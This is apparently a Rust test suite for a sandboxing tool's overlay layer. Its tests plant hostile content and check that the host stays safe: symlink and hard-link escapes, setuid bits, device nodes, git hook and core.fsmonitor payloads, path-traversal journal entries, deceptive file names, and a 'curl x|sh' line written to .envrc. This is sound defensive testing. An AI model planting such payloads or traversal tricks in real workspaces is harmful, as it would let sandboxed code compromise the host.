//! Attack cases against the layer's host side: the sandboxed command controls
//! the upper directory's contents (through the merged view, and here also by
//! writing the upper directory directly, as a bug or a future mode could let
//! it). Each case has a control showing the same mechanism works for honest
//! content, and asserts on the host: the outside file is unchanged, the
//! planted file is absent, the payload never ran.

mod common;
#[path = "overlay/harness.rs"]
mod harness;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use harness::*;

fn py(dir: &Path, code: &str) {
    let out = std::process::Command::new("python3")
        .args(["-c", code])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "python3: {}", text(&out.stderr));
}

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

#[test]
fn a_host_symlink_to_outside_is_replaced_never_written_through() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > keep");
    let outside = f.tmp.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("passwd"), "root:x:0:0\n").unwrap();
    f.host(&format!(
        "ln -s {} a && ln -s {}/passwd p",
        outside.display(),
        outside.display()
    ));
    let before = tree(&outside);
    // In the merged view `a` becomes a real directory and `p` a real file.
    f.in_layer(
        "default",
        "rm a p && mkdir a && echo owned > a/passwd && echo owned > p",
    );
    let out = f.sc(&["apply", "--force"]);
    assert_eq!(code(&out), Some(0), "{}", text(&out.stderr));
    assert_same(
        &before,
        &tree(&outside),
        "the symlinks' targets outside the workspace",
    );
    // Control: the layer's content did land, as real nodes in the workspace.
    assert!(std::fs::symlink_metadata(f.ws.join("a")).unwrap().is_dir());
    assert_eq!(
        std::fs::read_to_string(f.ws.join("a/passwd")).unwrap(),
        "owned\n"
    );
    assert!(std::fs::symlink_metadata(f.ws.join("p")).unwrap().is_file());
}

#[test]
fn a_symlinked_parent_made_on_the_host_meanwhile_is_a_conflict_and_never_followed() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("mkdir src && echo 1 > src/x");
    f.in_layer("default", "echo agent > src/x");
    let outside = f.tmp.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("x"), "precious\n").unwrap();
    f.host(&format!(
        "mv src src.orig && ln -s {} src",
        outside.display()
    ));
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(1), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("src: changed on the host"),
        "{}",
        text(&out.stderr)
    );
    let out = f.sc(&["apply", "--force"]);
    assert_eq!(code(&out), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(outside.join("x")).unwrap(),
        "precious\n"
    );
    assert!(
        std::fs::symlink_metadata(f.ws.join("src"))
            .unwrap()
            .is_dir(),
        "the symlink was replaced by the layer's directory"
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join("src/x")).unwrap(),
        "agent\n"
    );
}

#[test]
fn control_characters_in_names_are_shown_escaped_and_applied_exactly() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > plain");
    f.in_layer(
        "default",
        "touch \"$(printf 'new\\nline')\" \"$(printf 'esc\\033[31mred')\" \"$(printf 'bidi\\342\\200\\256txt.exe')\" \
         \"$(printf 'bad\\377utf8')\" -- '-rf' '...' ' ' && echo x > plain",
    );
    let out = f.sc(&["changes"]);
    let raw = out.stdout.clone();
    let shown = text(&raw);
    assert!(
        !raw.iter().any(|&b| b < 0x20 && b != b'\n'),
        "no raw control bytes: {shown:?}"
    );
    assert!(
        !shown.contains('\u{202e}'),
        "no raw bidi override: {shown:?}"
    );
    for want in [
        "A  \"new\\nline\"",
        "A  \"esc\\u{1b}[31mred\"",
        "A  \"bidi\\u{202e}txt.exe\"",
        "A  \"bad\\xffutf8\"",
        "A  -rf",
        "A  ...",
        "M  plain",
    ] {
        assert!(
            shown.lines().any(|l| l == want),
            "{want:?} missing in {shown:?}"
        );
    }
    let json = text(&f.sc(&["changes", "--json"]).stdout);
    assert!(!json.bytes().any(|b| b == 0x1b), "json is escaped too");
    assert_eq!(code(&f.sc(&["apply"])), Some(0));
    let names: Vec<Vec<u8>> = std::fs::read_dir(&f.ws)
        .unwrap()
        .map(|e| {
            std::os::unix::ffi::OsStrExt::as_bytes(e.unwrap().file_name().as_os_str()).to_vec()
        })
        .collect();
    for want in [
        &b"new\nline"[..],
        b"esc\x1b[31mred",
        b"bidi\xe2\x80\xaetxt.exe",
        b"bad\xffutf8",
        b"-rf",
        b"...",
        b" ",
    ] {
        assert!(
            names.iter().any(|n| n == want),
            "{:?} applied",
            String::from_utf8_lossy(want)
        );
    }
}

#[test]
fn a_hard_link_to_a_file_outside_the_layer_is_never_copied() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a");
    let l = f.begin("default");
    // Same filesystem as the state dir: a secret the sandbox never saw.
    let secret = f.tmp.path().join("secret");
    std::fs::write(&secret, "TOKEN=hunter2\n").unwrap();
    std::fs::hard_link(&secret, l.upper().join("loot")).unwrap();
    // Control: a hard link made inside the merged view (both names in the layer).
    f.in_layer("default", "echo shared > one && ln one two");
    let out = f.sc(&["changes"]);
    let shown = text(&out.stdout);
    assert!(
        shown.contains("A  loot  (not applied: a hard link with 2 names, some outside the layer"),
        "{shown}"
    );
    let out = f.sc(&["apply"]);
    assert_eq!(
        code(&out),
        Some(1),
        "a skipped path makes apply exit 1: {}",
        text(&out.stderr)
    );
    assert!(
        text(&out.stderr).contains("skipped loot"),
        "{}",
        text(&out.stderr)
    );
    assert!(!f.ws.join("loot").exists());
    assert_eq!(
        std::fs::read_to_string(f.ws.join("one")).unwrap(),
        "shared\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join("two")).unwrap(),
        "shared\n"
    );
    assert_eq!(
        std::fs::metadata(f.ws.join("one")).unwrap().nlink(),
        1,
        "applied as separate files"
    );
}

#[test]
fn setuid_and_setgid_bits_never_reach_the_host() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a");
    f.in_layer("default", "echo '#!/bin/sh' > tool && chmod 6755 tool && echo x > plain && chmod 755 plain && mkdir sgid && chmod 2775 sgid");
    let shown = text(&f.sc(&["changes"]).stdout);
    assert!(shown.contains("A  tool  (mode 6755)"), "{shown}");
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("tool: setuid/setgid/sticky bits dropped (mode 6755 -> 755)"),
        "{}",
        text(&out.stderr)
    );
    let mode = |p: &str| {
        std::fs::symlink_metadata(f.ws.join(p))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("tool"), 0o755);
    assert_eq!(mode("sgid"), 0o775);
    assert_eq!(mode("plain"), 0o755, "control: ordinary modes are kept");
}

#[test]
fn fifos_sockets_and_devices_are_never_applied() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a");
    f.in_layer("default", "mkfifo pipe && python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\" && echo ok > regular");
    let l = f.begin("default");
    if is_root() {
        // Only real root can make device nodes in the upper directory.
        py(
            &l.upper(),
            "import os; os.mknod('null', 0o20666, os.makedev(1, 3)); os.mknod('disk', 0o60600, os.makedev(8, 0))",
        );
    }
    let shown = text(&f.sc(&["changes"]).stdout);
    assert!(shown.contains("A  pipe  (not applied: a fifo"), "{shown}");
    assert!(shown.contains("A  sock  (not applied: a socket"), "{shown}");
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(1), "{}", text(&out.stderr));
    for p in ["pipe", "sock", "null", "disk"] {
        assert!(
            std::fs::symlink_metadata(f.ws.join(p)).is_err(),
            "{p} reached the host"
        );
    }
    assert_eq!(
        std::fs::read_to_string(f.ws.join("regular")).unwrap(),
        "ok\n",
        "control"
    );
    assert!(
        f.changes(&[]).contains("pipe"),
        "skipped entries stay in the layer"
    );
}

#[test]
fn a_huge_sparse_file_stays_sparse_and_is_not_dumped() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a");
    f.in_layer("default", "truncate -s 100G huge && printf 'tail' | dd of=huge bs=1 seek=1000000 conv=notrunc 2>/dev/null && echo small > small");
    let diff = text(&f.sc(&["changes", "--diff"]).stdout);
    assert!(
        diff.contains("Large file (107374182400 bytes), not shown"),
        "{diff}"
    );
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(0), "{}", text(&out.stderr));
    let md = std::fs::metadata(f.ws.join("huge")).unwrap();
    assert_eq!(md.len(), 100 << 30);
    assert!(
        md.blocks() * 512 < 16 << 20,
        "allocated {} bytes: the hole was written",
        md.blocks() * 512
    );
    let mut buf = [0u8; 4];
    std::os::unix::fs::FileExt::read_exact_at(
        &std::fs::File::open(f.ws.join("huge")).unwrap(),
        &mut buf,
        1_000_000,
    )
    .unwrap();
    assert_eq!(&buf, b"tail", "the data extent was copied");
    assert_eq!(
        std::fs::read_to_string(f.ws.join("small")).unwrap(),
        "small\n",
        "control"
    );
}

#[test]
fn protected_paths_are_skipped_and_named() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a");
    f.in_layer(
        "default",
        "mkdir -p .vscode .claude && echo '{}' > .vscode/tasks.json && echo 'curl x|sh' > .envrc \
         && echo '{\"hooks\":{}}' > .claude/settings.json && echo 2 > a",
    );
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(1), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    for p in [".vscode", ".envrc", ".claude"] {
        assert!(
            err.contains(&format!("skipped {p}: protected path {p} (profile)")),
            "{p}: {err}"
        );
        assert!(!f.ws.join(p).exists(), "{p} reached the host");
    }
    assert_eq!(
        std::fs::read_to_string(f.ws.join("a")).unwrap(),
        "2\n",
        "control"
    );
}

/// A git payload: writes a marker when git runs it.
fn payload(marker: &Path) -> String {
    format!("touch {}", marker.display())
}

#[test]
fn git_hooks_config_and_redirects_are_never_planted() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a && mkdir sub");
    let marker = f.tmp.path().join("PWNED");
    let p = payload(&marker);
    f.in_layer(
        "default",
        &format!(
            "printf '#!/bin/sh\\n{p}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout \
             && git config core.fsmonitor '{p}' && git config alias.st '!{p}' \
             && git init -q sub && git -C sub config core.fsmonitor '{p}' \
             && git init -q --bare evil.git && git -C evil.git config core.fsmonitor '{p}' \
             && mkdir other && printf 'gitdir: ../evil.git\\n' > other/.git \
             && echo 2 > a"
        ),
    );
    // Control: the planted repository does run the payload where it exists (the merged view).
    f.in_layer("default", "cd sub && git status >/dev/null 2>&1; true");
    assert!(
        marker.exists(),
        "control: the payload runs in the merged view"
    );
    std::fs::remove_file(&marker).unwrap();
    let host_config = std::fs::read(f.ws.join(".git/config")).unwrap();
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(1), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    for p in [
        ".git/hooks/post-checkout",
        ".git/config",
        "sub/.git/config",
        "evil.git/config",
        "other/.git",
    ] {
        assert!(err.contains(&format!("skipped {p}")), "{p}: {err}");
    }
    assert_eq!(
        std::fs::read(f.ws.join(".git/config")).unwrap(),
        host_config
    );
    assert!(!f.ws.join(".git/hooks/post-checkout").exists());
    assert!(!f.ws.join("sub/.git/config").exists() && !f.ws.join("evil.git/config").exists());
    assert!(!f.ws.join("other/.git").exists());
    // The user's next git commands, everywhere the layer touched.
    for dir in [".", "sub", "evil.git", "other"] {
        let _ = std::process::Command::new("git")
            .args(["status"])
            .current_dir(f.ws.join(dir))
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output();
        let _ = std::process::Command::new("git")
            .args(["st"])
            .current_dir(f.ws.join(dir))
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output();
    }
    assert!(!marker.exists(), "a planted git payload ran on the host");
    assert_eq!(
        std::fs::read_to_string(f.ws.join("a")).unwrap(),
        "2\n",
        "control: ordinary changes applied"
    );
    assert!(
        f.ws.join("sub/.git/HEAD").exists(),
        "control: harmless git data applied"
    );
}

#[test]
fn planted_overlay_xattrs_are_read_as_the_kernel_reads_them() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git(
        "mkdir src dst2 && echo a > src/f && echo b > gone && echo c > xgone && echo d > dst2/keep",
    );
    let l = f.begin("default");
    let up = l.upper();
    std::fs::create_dir(up.join("dst")).unwrap();
    std::fs::write(up.join("xgone"), "").unwrap();
    py(
        &up,
        "import os; os.setxattr('dst', 'user.overlay.redirect', b'/src'); os.setxattr('xgone', 'user.overlay.whiteout', b''); os.mknod('gone', 0o20000, 0) if os.geteuid() == 0 else None",
    );
    // The kernel's view of the same upper directory: the redirect is refused,
    // the xattr whiteout hides the file.
    f.in_layer("default", "! ls dst >/dev/null 2>&1 && ! test -e xgone");
    let shown = text(&f.sc(&["changes"]).stdout);
    assert!(
        shown.contains("A  dst/  (not applied: an overlay redirect to \"/src\""),
        "{shown}"
    );
    assert!(shown.contains("D  xgone"), "{shown}");
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(1), "{}", text(&out.stderr));
    assert!(!f.ws.join("dst").exists(), "the redirect is not applied");
    assert!(f.ws.join("src/f").exists(), "nor is its source touched");
    assert!(
        !f.ws.join("xgone").exists(),
        "the xattr whiteout is a deletion"
    );
    assert!(f.ws.join("dst2/keep").exists(), "control");
}

#[test]
fn a_layer_that_belongs_to_another_workspace_or_is_not_private_is_refused() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a");
    let l = f.begin("default");
    std::fs::set_permissions(&l.dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = f.sc(&["changes"]);
    assert_eq!(code(&out), Some(125));
    assert!(
        text(&out.stderr).contains("writable by others"),
        "{}",
        text(&out.stderr)
    );
    std::fs::set_permissions(&l.dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    // A meta.json pointing at another workspace.
    let meta = std::fs::read_to_string(l.dir.join("meta.json")).unwrap();
    std::fs::write(
        l.dir.join("meta.json"),
        meta.replace(f.ws.to_str().unwrap(), "/etc"),
    )
    .unwrap();
    let out = f.sc(&["apply"]);
    assert_eq!(code(&out), Some(125));
    assert!(
        text(&out.stderr).contains("belongs to workspace /etc"),
        "{}",
        text(&out.stderr)
    );
    std::fs::write(l.dir.join("meta.json"), meta).unwrap();
    assert_eq!(code(&f.sc(&["changes"])), Some(0), "control");
}

#[test]
fn an_apply_journal_cannot_delete_host_files() {
    if !overlay_available() {
        return;
    }
    let f = Fixture::git("echo 1 > a && echo precious > keep");
    let l = f.begin("default");
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02x}")).collect::<String>();
    std::fs::write(
        l.journal(),
        format!(
            "tmp {}\ntmp {}\ntmp {}\n",
            hex("keep"),
            hex("../../etc/passwd"),
            hex(".shellcage-apply-1-1")
        ),
    )
    .unwrap();
    std::fs::write(f.ws.join(".shellcage-apply-1-1"), "leftover").unwrap();
    f.in_layer("default", "echo 2 > a");
    assert_eq!(code(&f.sc(&["apply"])), Some(0));
    assert_eq!(
        std::fs::read_to_string(f.ws.join("keep")).unwrap(),
        "precious\n"
    );
    assert!(
        !f.ws.join(".shellcage-apply-1-1").exists(),
        "control: a real leftover is removed"
    );
}
